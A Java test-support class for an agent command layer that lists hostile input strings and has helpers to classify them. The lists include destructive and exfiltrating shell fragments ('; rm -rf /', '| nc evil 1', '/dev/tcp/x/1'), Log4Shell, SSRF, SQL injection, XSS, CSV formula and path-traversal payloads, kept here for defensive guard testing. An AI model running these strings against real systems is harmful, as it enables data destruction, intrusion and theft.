package dev.escarole.web.agent.command;

import java.util.ArrayList;
import java.util.List;

/** Texts that somebody might send who means harm, for every door that a text can come in by. */
final class HostileTexts {

  private static final String FORBIDDEN = ";&|`$(){}[]<>!\\";

  /** Shells: separators, substitutions, redirections, history, globs, quotes. */
  private static final List<String> SHELLS =
      List.of(
          "; rm -rf /",
          "a;b",
          "&& reboot",
          "a & b",
          "| nc evil 1",
          "x || y",
          "`id`",
          "$(id)",
          "$HOME",
          "${IFS}",
          "(id)",
          ")",
          "$((1+1))",
          "$'\\n'",
          "< /etc/passwd",
          "> /tmp/x",
          ">> log",
          "2>&1",
          "<(id)",
          "<<EOF",
          ">&2",
          "!!",
          "!1",
          "!history",
          "^a^b",
          "\\",
          "\\x41",
          "\\u003b",
          "a\\",
          "a\\,b",
          "*",
          "?",
          "~",
          "~root/.ssh",
          "~+",
          "[a-z]",
          "]",
          "'",
          "\"",
          "a'b",
          "a\"b",
          "'\"'",
          "' or '1'='1",
          "\" --wait 0 \"",
          "'; ls; '",
          "#comment",
          "a b",
          "  padded  ",
          "",
          " ",
          "%PATH%",
          "%COMSPEC%",
          "^C",
          "one\ntwo",
          "x\nhelp",
          "a\r\nb",
          "tab\there",
          "\n; id");

  /** What looks like an option, or ends the options. */
  private static final List<String> OPTIONS =
      List.of(
          "--text",
          "--wait=0",
          "-rf",
          "--help",
          "--",
          "-",
          "-n10",
          "--text=other",
          "-x -y",
          "+x",
          "+%s",
          "--output=/etc/x",
          "--checkpoint-action=exec=sh",
          "--upload-pack=touch x",
          "-oProxyCommand=id",
          "-exec",
          "-e",
          "--eval=1",
          "-5",
          "-0.5",
          "-1e9",
          "--5",
          "---",
          "-\u2212",
          "\u2212rf",
          "\u2013\u2013help",
          " -rf",
          "-rf ",
          "=",
          "a=b",
          "text=other",
          "@file",
          "@/etc/passwd",
          "/c",
          "/?");

  /** Templates, placeholders, directives, queries. */
  private static final List<String> TEMPLATES =
      List.of(
          "{text}",
          "{{note}}",
          "{{text}}",
          "{{$.text}}",
          "}",
          "}}",
          "{text[0]}",
          "{text.length}",
          "{index}",
          "{{7*7}}",
          "${7*7}",
          "#{7*7}",
          "%{7*7}",
          "<%= 7*7 %>",
          "{%raw%}",
          "[[x]]",
          "${jndi:ldap://x/a}",
          "{\"$\": \"$.note\"}",
          "{\"$args\": [\"-rf\"]}",
          "$args",
          "$flags",
          "$repeat",
          "$encode",
          "$use",
          "$spread",
          "$.note",
          "$['note']",
          "$..*",
          "@.note",
          "*[0]",
          "$ref",
          "__proto__",
          "constructor.prototype",
          "toString",
          "{\"--force\": true}");

  /** Paths and addresses. */
  private static final List<String> PATHS =
      List.of(
          "../../etc/passwd",
          "/etc/passwd",
          "..",
          ".",
          "....//x",
          "..\\x",
          "%2e%2e/x",
          "%00",
          "%252e",
          "%3B rm",
          "C:\\x",
          "\\\\server\\share",
          "//evil/x",
          "file:///etc/passwd",
          "http://169.254.169.254/",
          "data:text/html,x",
          "con",
          "nul",
          "/dev/tcp/x/1",
          "/proc/self/environ",
          "a/./b",
          "a//b",
          "x/",
          "/workspace/../x");

  /** Texts that other programs read as more than texts. */
  private static final List<String> LANGUAGES =
      List.of(
          "DROP TABLE runs",
          "1; DROP TABLE runs--",
          "' UNION SELECT 1",
          "%' --",
          "1 OR 1=1",
          "<script>alert(1)</script>",
          "<img src=x onerror=a>",
          "<!--",
          "]]>",
          "<?xml?>",
          "<!ENTITY x>",
          "&lt;",
          "*)(uid=*",
          "=cmd|' /C calc'!A0",
          "=1+1",
          "+SUM(1)",
          "@SUM(1)",
          "%s%n%x",
          "%d",
          "%99999d",
          "%n",
          "{0}",
          "null",
          "true",
          "false",
          "NaN",
          "Infinity",
          "1e999",
          "0x41",
          "0777",
          "99999999999999999999",
          "1_000",
          ",",
          ",,",
          "a,b",
          "\"a,b\"",
          "[1,2]",
          "- item",
          "key: value",
          "? x",
          "&anchor",
          "*alias",
          "!!int 1",
          "<<: x",
          "X-Header: y\r\n\r\n",
          "help",
          "x-echo",
          "version",
          "last",
          "last --stderr");

  /** Characters that are not what they seem, are not to be seen, or are not there. */
  private static final List<String> CHARACTERS =
      List.of(
          "\u202Egnp.exe",
          "\u2066x\u2069",
          "\u200B",
          "\uFEFFx",
          "\u00ADx",
          "\uFF1B rm",
          "\u037E id",
          "\uFF0D\uFF0Drm",
          "\uFF04HOME",
          "\u0007bell",
          "\u001B[31mred",
          "\u001B]0;title\u0007",
          "\u0008\u0008x",
          "\u007F",
          "\u0085",
          "\u2028x",
          "\u2029x",
          "\u00A0x",
          "e\u0301",
          "\uD83E\uDD57",
          "\uD83C\uDDE9\uD83C\uDDEA",
          "\u0130",
          "\u00DF",
          "\uFDFA",
          "\uFFFD",
          "\uFFFF",
          "a\u0000b",
          "\u0000",
          "-\u0000",
          "\uD800",
          "x\uDC00",
          "\uDC00\uD800",
          "A".repeat(4_000),
          "\u0301".repeat(500),
          ";".repeat(300));

  private HostileTexts() {}

  static List<String> all() {
    List<String> all = new ArrayList<>();
    List.of(SHELLS, OPTIONS, TEMPLATES, PATHS, LANGUAGES, CHARACTERS).forEach(all::addAll);
    return all;
  }

  /** Whether the guard of lines refuses it. */
  static boolean isForbidden(String text) {
    return text.chars().anyMatch(c -> FORBIDDEN.indexOf(c) >= 0);
  }

  /** Whether it is no text that a program can be given. */
  static boolean isBroken(String text) {
    return text.codePoints()
        .anyMatch(c -> c == 0 || (c >= Character.MIN_SURROGATE && c <= Character.MAX_SURROGATE));
  }

  /** Whether no line can hold it: it is broken, or has control characters besides blanks. */
  static boolean isUnwritable(String text) {
    return isBroken(text)
        || text.chars().anyMatch(c -> Character.isISOControl(c) && "\t\n\r".indexOf(c) < 0);
  }

  /** Whether a program would read it as an option where an option can stand. */
  static boolean isFlag(String text) {
    return text.length() > 1 && (text.charAt(0) == '-' || text.charAt(0) == '+');
  }
}
